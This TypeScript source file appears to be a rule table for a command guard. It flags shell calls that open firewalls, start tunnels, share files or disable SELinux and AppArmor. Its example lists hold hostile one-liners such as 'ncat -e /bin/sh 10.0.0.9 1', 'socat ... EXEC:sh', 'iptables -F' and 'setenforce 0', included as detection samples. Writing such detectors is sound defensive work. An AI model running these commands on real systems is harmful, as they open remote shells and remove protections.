import { type AccessUse, gains, word } from './use.ts';

const SHARES = 'decides which other machines may read or write files';
const TUNNEL = 'opens a tunnel into or out of the network';
const OPENS = 'opens the firewall or takes rules out of it';
const ACCEPTS =
  /(^| )-[AIR] .*(-j|--jump) (ACCEPT|DNAT|REDIRECT|MASQUERADE|RETURN)|(^| )--(append|insert|replace) .*(ACCEPT|DNAT)/;

/** Firewalls, tunnels, doors. */
export const NETWORK_USES: readonly AccessUse[] = [
  gains(
    'exportfs net smbcontrol targetcli tgtadm',
    SHARES,
    /(^| )(-o|-i|usershare (add|delete)|create|add|--lld)\b|[*\w.]:\//,
    ["exportfs -o rw,no_root_squash '*:/srv'", "net usershare add x /srv '' everyone:F"],
    ['exportfs -v', 'exportfs -ra', 'net usershare info'],
  ),
  gains(
    'zfs',
    SHARES,
    /^(set|inherit|create)\b.*(^| )(sharenfs|sharesmb)\b|^(share|allow|unallow)\b/,
    ['zfs set sharenfs=on tank/x', 'zfs allow bob destroy tank'],
    ['zfs set compression=lz4 tank', 'zfs get sharenfs'],
  ),
  gains(
    'iptables ip6tables iptables-legacy iptables-nft ip6tables-nft ebtables arptables',
    OPENS,
    (call) =>
      ACCEPTS.test(call.line) ||
      /(^| )(-[FDXZ]|--flush|--fl\w*|--delete(-chain)?)(?= |$)|(^| )(-P|--policy) \S+ ACCEPT/.test(
        call.line,
      ),
    ['iptables -F', 'iptables -P INPUT ACCEPT', 'iptables -I INPUT -p tcp --dport 22 -j ACCEPT'],
    ['iptables -A INPUT -s 10.0.0.9 -j DROP', 'iptables -L'],
  ),
  gains(
    'iptables-restore ip6tables-restore ipset',
    OPENS,
    (call) => !/^(list|-L|--test|-t|save)(?= |$)/.test(call.line),
    ['iptables-restore /tmp/x'],
    ['ipset list'],
  ),
  gains(
    'nft',
    OPENS,
    /(^| )(flush|delete|destroy|reset|-f|--file|-i)(?= |$)|\b(accept|dnat|redirect|masquerade)\b/,
    ['nft flush ruleset', 'nft -f /tmp/x', 'nft add rule inet filter input accept'],
    ['nft list ruleset', 'nft add rule inet filter input drop'],
  ),
  gains(
    'ufw',
    OPENS,
    word('disable|reset|allow|delete|route|default'),
    ['ufw disable', 'ufw allow 22', 'ufw delete 1'],
    ['ufw deny 22', 'ufw status'],
  ),
  gains(
    'firewall-cmd firewall-offline-cmd',
    OPENS,
    /--(add|remove|set|change|new|delete|direct|panic-off|load)/,
    ['firewall-cmd --add-port=22/tcp'],
    ['firewall-cmd --state', 'firewall-cmd --reload'],
  ),
  gains(
    'fail2ban-client cscli',
    'lets banned hosts in again or turns banning off',
    /(^| )(stop|unban|unbanip|addignoreip|delete|remove|disable|reload)(?= |$)/,
    ['fail2ban-client unban 10.0.0.9', 'fail2ban-client set sshd unbanip 10.0.0.9'],
    ['fail2ban-client status sshd'],
  ),
  gains(
    'setenforce aa-disable aa-complain aa-teardown apparmor_parser semanage setsebool',
    'turns off a guard of the kernel',
    /^(?!1$|enforcing$)/i,
    ['setenforce 0', 'aa-complain x', 'apparmor_parser -R x'],
    ['setenforce 1'],
  ),
  gains(
    'ssh autossh',
    TUNNEL,
    /(^| )-[a-zA-Z0-9]*[RLDw](?= |\d|\S*:)|(^| )-o ?(Remote|Local|Dynamic)Forward|Tunnel=|PermitLocalCommand/,
    ['ssh -R 2222:localhost:22 x', 'ssh -fNL 80:localhost:80 x', 'autossh -M 0 -D 1080 x'],
    ['ssh pve2 uptime', 'ssh -p 22 x ls'],
  ),
  gains(
    'systemctl service rc-service',
    TUNNEL,
    /(^| )(start|restart|unmask)( \S+)* (tailscaled?|cloudflared\S*|openvpn\S*|wg-quick\S*|wireguard\S*|zerotier-one|frp[cs]|ngrok|netbird|nebula|autossh\S*|rathole\S*|chisel\S*|headscale)(\.service)?(?= |$)/,
    ['systemctl start tailscaled', 'systemctl start wg-quick@wg0'],
    ['systemctl stop tailscaled'],
  ),
  gains(
    'nmcli',
    TUNNEL,
    /type (wireguard|vpn|ip-tunnel|tun)\b|(^| )import type/,
    ['nmcli con add type wireguard ifname wg0'],
    ['nmcli con show'],
  ),
  gains('autossh sshuttle', TUNNEL, undefined, ['autossh x']),
  gains(
    'tailscale',
    TUNNEL,
    word('up|set|serve|funnel|login|switch|cert|lock|file|ssh|drive|configure'),
    ['tailscale up --ssh', 'tailscale funnel 80'],
    ['tailscale status', 'tailscale down'],
  ),
  gains(
    'cloudflared ngrok frpc frps chisel bore lt localtunnel rathole gost nebula netbird pagekite tmate upterm gotty ttyd shellinabox shellinaboxd stunnel stunnel4 openvpn x11vnc vncserver xrdp inlets zrok teleport tsh telnetd in.telnetd dropbear sshd rshd tinyproxy danted microsocks 3proxy',
    'opens a tunnel or a way to log in',
    (call) =>
      !/^(-v|-V|-t|-T|--version|version|status|-h|--help|help|list|tunnel (list|info))$/.test(
        call.line,
      ),
    ['cloudflared tunnel run x', 'ngrok http 80', 'sshd -f x', 'ttyd bash'],
    ['cloudflared --version', 'sshd -t'],
  ),
  gains(
    'wg wg-quick',
    TUNNEL,
    word('set|setconf|addconf|syncconf|up|save'),
    ['wg-quick up wg0', 'wg set wg0 peer x'],
    ['wg show', 'wg-quick down wg0'],
  ),
  gains(
    'zerotier-cli',
    TUNNEL,
    word('join|orbit|set'),
    ['zerotier-cli join x'],
    ['zerotier-cli listnetworks'],
  ),
  gains(
    'headscale',
    TUNNEL,
    /(register|create|enable|approve)/,
    ['headscale nodes register --key x'],
    ['headscale nodes list'],
  ),
  gains(
    'ip',
    TUNNEL,
    /(^| )(tunnel|tun|tuntap|l2tp|fou|xfrm) (add|change|replace|state|policy)|link add .*type (wireguard|gre|gretap|ipip|sit|vxlan|vti|geneve|tun)/,
    ['ip tunnel add x mode gre', 'ip link add wg0 type wireguard'],
    ['ip tunnel show', 'ip link add br0 type bridge'],
  ),
  gains(
    'socat nc ncat netcat nc.openbsd nc.traditional busybox',
    'opens a door for whoever connects',
    /listen|exec:|system:|(^| )-[a-zA-Z]*[lec]\w*(?= |$)|--(listen|exec|sh-exec)/i,
    ['socat TCP-LISTEN:1,fork EXEC:sh', 'nc -lvp 4444', 'ncat -e /bin/sh 10.0.0.9 1'],
    ['nc -zv 10.0.0.1 22'],
  ),
  gains(
    'upnpc natpmpc',
    'opens a port of the router',
    /(^| )-[adr](?= |$)/,
    ['upnpc -a 10.0.0.1 22 22 TCP'],
    ['upnpc -l'],
  ),
];
